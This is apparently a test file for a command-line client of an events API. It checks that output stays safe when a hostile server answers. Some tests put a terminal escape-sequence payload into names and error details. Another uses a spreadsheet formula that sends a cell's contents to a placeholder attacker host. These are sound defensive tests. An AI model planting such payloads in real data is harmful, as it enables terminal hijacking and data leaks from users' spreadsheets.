import { wireEvent } from "@community/domain/testing";
import { type LoopbackServer, sendJson, startLoopbackServer } from "@community/fixtures/testing";
import { EXIT } from "./exit-codes";
import { run } from "./run";

/** What the CLI writes when a server on loopback sends text made to act on a terminal or a spreadsheet. */
const PAYLOAD = "\u001b]0;pwned\u0007\u001b[2J";
const TERMINAL_CONTROL = /(?!\n)\p{Cc}/u;

let server: LoopbackServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

const page = (items: unknown[]) => ({
  guides: items,
  meta: { pagination: { current_page: 1, per_page: 100, total_pages: 1 } },
});

async function cli(argv: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await run([...argv, "--token", "tok", "--base-url", server?.url ?? "http://127.0.0.1:9"], {
    stdout: { write: (s: string) => out.push(s) },
    stderr: { write: (s: string) => err.push(s) },
    env: {},
  });
  return { code, stdout: out.join(""), stderr: err.join("") };
}

/** Runs the CLI against a loopback server that answers every request with this JSON. */
async function cliAgainst(argv: string[], body: unknown, status = 200, headers: Record<string, string> = {}) {
  server = await startLoopbackServer((_request, response) => sendJson(response, body, status, headers));
  return cli(argv);
}

/** The payload, then `text`, written as escape sequences rather than sent to the terminal. */
function expectPayloadShown(output: string, text: string) {
  expect(output).not.toMatch(TERMINAL_CONTROL);
  expect(output).toContain(`\\u001b]0;pwned\\u0007\\u001b[2J${text}`);
}

describe("the CLI against a hostile server", () => {
  it("shows escape sequences of item names in a table instead of sending them to the terminal", async () => {
    const result = await cliAgainst(["events"], page([wireEvent({ name: `${PAYLOAD}Spring run` })]), 200, {
      "x-total-count": "1",
    });
    expect(result.code).toBe(EXIT.ok);
    expectPayloadShown(result.stdout, "Spring run");
  });

  it("shows escape sequences of a problem's detail in the error line", async () => {
    const problem = {
      type: "https://x.test/problems/unauthorized",
      title: "Unauthorized",
      status: 401,
      detail: `${PAYLOAD}bad token`,
      instance: "/",
    };
    const result = await cliAgainst(["events"], problem, 401, { "content-type": "application/problem+json" });
    expect(result.code).toBe(EXIT.unauthorized);
    expectPayloadShown(result.stderr, "bad token");
  });

  it("writes formulas into CSV as text, with a leading apostrophe", async () => {
    const evil = wireEvent({ name: '=HYPERLINK("http://evil.test/?"&A1,"open")' });
    const result = await cliAgainst(["events", "--format", "csv"], page([evil]), 200, { "x-total-count": "1" });
    expect(result.code).toBe(EXIT.ok);
    const name = result.stdout.split("\n")[1]?.split(",")[2];
    expect(name).toBe(`"'=HYPERLINK(""http://evil.test/?""&A1`);
  });

  it("exits with the usage code on --per-page 500, before any request", async () => {
    const result = await cliAgainst(["events", "--per-page", "500"], page([]));
    expect(result.code).toBe(EXIT.usage);
    expect(result.stderr).toContain("--per-page must be an integer between 1 and 100");
    expect(server?.requests).toEqual([]);
  });

  it("aligns names of wide characters by their display width", async () => {
    const names = ["東京マラソン", "Tokyo run", "😀 party"];
    const items = names.map((name, i) => wireEvent({ id: `ev_${i}`, name }));
    const result = await cliAgainst(["events"], page(items), 200, { "x-total-count": "3" });
    const { default: stringWidth } = await import("string-width");
    // Terminal columns before SCHEDULED_AT on each row: the same everywhere when aligned.
    const offsets = result.stdout
      .trimEnd()
      .split("\n")
      .map((line) => stringWidth(line.slice(0, line.search(/SCHEDULED_AT|2026-03-01T18:30:00Z/))));
    expect(offsets).toHaveLength(4);
    expect(new Set(offsets).size).toBe(1);
  });
});
